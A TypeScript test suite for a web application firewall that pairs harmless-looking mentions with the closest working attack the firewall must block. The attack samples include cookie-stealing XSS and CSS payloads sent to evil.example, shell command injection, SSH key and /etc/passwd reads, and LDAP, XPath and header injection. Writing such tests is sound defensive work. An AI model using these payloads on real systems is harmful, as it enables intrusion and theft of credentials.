// What makes a mention an attack: for each inference a text that passes, and the nearest one that would work and is stopped.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { ask, gate, type Request } from '../../test/waf-asking.ts';

const waf = gate();
const encode = encodeURIComponent;
const json: readonly [string, string] = ['Content-Type', 'application/json'];

const search = (text: string): Request => ({ target: `/search?q=${encode(text)}` });
const named = (name: string, text: string): Request => ({ target: `/x?${name}=${encode(text)}` });
const document = (value: unknown): Request => ({ headers: [json], body: JSON.stringify(value) });

const pairs: readonly (readonly [string, Request, Request])[] = [
  [
    'a script of words does nothing',
    search('put it between <script> and </script>'),
    search('put it between <script>top[a]</script>'),
  ],
  [
    'a script needs a program',
    search('std::vector<script> of words'),
    search('std::vector<script src=//evil.example>'),
  ],
  ['a timer needs text', search('setTimeout(fn, 0)'), search('setTimeout("alert(1)", 0)')],
  ['a wrapper is the whole address', search('php://input json'), search('php://filter/resource=index.php')],
  [
    "a file of one's own is no secret",
    search('file:///C:/Users/anna/notes.html'),
    search('file:///C:/Users/anna/.ssh/id_rsa'),
  ],
  [
    'a whole request ends no header',
    search('GET /a HTTP/1.1\nHost: example.com\nAccept: */*'),
    search('a\r\nHost: example.com'),
  ],
  [
    'no host has a bracket in its name',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what a program says
    document({ url: '@Value("${shop.url:http://shop.example}")' }),
    named('url', '@evil.example'),
  ],
  [
    'a fragment is used by the query behind it',
    document({ query: 'fragment U on User { id }\nquery Q { me { ...U } }' }),
    document({ query: 'fragment U on User { id ...U }\nquery Q { me { ...U } }' }),
  ],
  [
    'doubts about members of a document do not add up',
    document({ spec: { containers: [{ command: ['/bin/sh', '-c', 'exec "$@"'] }], note: '../x' } }),
    document({ spec: { containers: [{ command: ['/bin/sh', '-c', '; cat /etc/passwd'] }] } }),
  ],
  [
    'a lesson greets in its block of code',
    document({ text: '```html\n<button onclick="alert(\'Hello\')">Go</button>\n```' }),
    document({ text: '```html\n<button onclick="alert(document.cookie)">Go</button>\n```' }),
  ],
  [
    'an XML element is filled by a program',
    { headers: [['Content-Type', 'text/xml']], body: '<a><note>our server is at http://10.0.0.1/</note></a>' },
    { headers: [['Content-Type', 'text/xml']], body: '<a><note>http://10.0.0.1/</note></a>' },
  ],
  ['a path has one slash before its first name', search('//user/list'), search('//user/password')],
  ['what gives nothing stands in no word', search('the cost is $() per unit'), search(';who$()ami')],
  [
    'a call in backquotes stands apart from words',
    document({ text: 'run `telnetd -l /bin/login` there' }),
    named('host', 'ntp.example`telnetd -l /bin/sh`'),
  ],
  ['a secret is asked for where no text stands', named('q', '.htaccess rewrite'), named('item', '.htaccess')],
  [
    'who reports shows what the page had',
    document({ exception: { stacktrace: { frames: [{ context_line: "document.cookie = 'a=' + b;" }] } } }),
    document({ exception: { stacktrace: { frames: [{ context_line: '<img src=x onerror=alert(1)>' }] } } }),
  ],
  [
    'a script that no parser takes runs nothing',
    search('users type <script> in the box, what to do (strip it)?'),
    search('users type <script>alert(1)//in the box'),
  ],
  [
    'a finished filter ends no other one',
    document({ filter: '(&(objectClass=user)(cn=ann))' }),
    document({ filter: 'ann)(|(cn=*' }),
  ],
  [
    'what a package runs is a command',
    document({ scripts: { build: 'tsc -p . && node dist/index.js' } }),
    document({ build: 'x && node -e id' }),
  ],
  [
    'a path of a page opens its own strings',
    document({ text: "//div[@class='price']/text()" }),
    document({ text: "x'] | //user/text() | //a['" }),
  ],
  [
    'a picture that is missing changes itself',
    document({ text: '<img src="/a.png" onerror="this.onerror=null;this.src=\'/none.png\'">' }),
    document({ text: '<img src="/a.png" onerror="this.src=\'//evil.example/\'+document.cookie">' }),
  ],
  [
    'a line of a log stands between its words',
    document({ line: '203.0.113.9 GET /../../etc/passwd 404 12 ms' }),
    document({ line: '../../etc/passwd' }),
  ],
  [
    'a name is asked for where a key is',
    document({ text: '__proto__' }),
    document([{ op: 'add', path: '/__proto__/admin', value: true }]),
  ],
  [
    'a style sheet asks nobody for what it matches',
    document({ css: 'input[value^=a] { color: red }' }),
    document({ css: 'input[value^=a]{background:url(//evil.example/a)}' }),
  ],
];

for (const [says, mention, attack] of pairs)
  describe(says, () => {
    test('the mention passes', () => {
      const { why, exchange } = ask(waf, mention);
      assert.equal(why, 'pass', JSON.stringify(exchange.findings));
    });
    test('the attack does not', () => assert.notEqual(ask(waf, attack).why, 'pass'));
  });
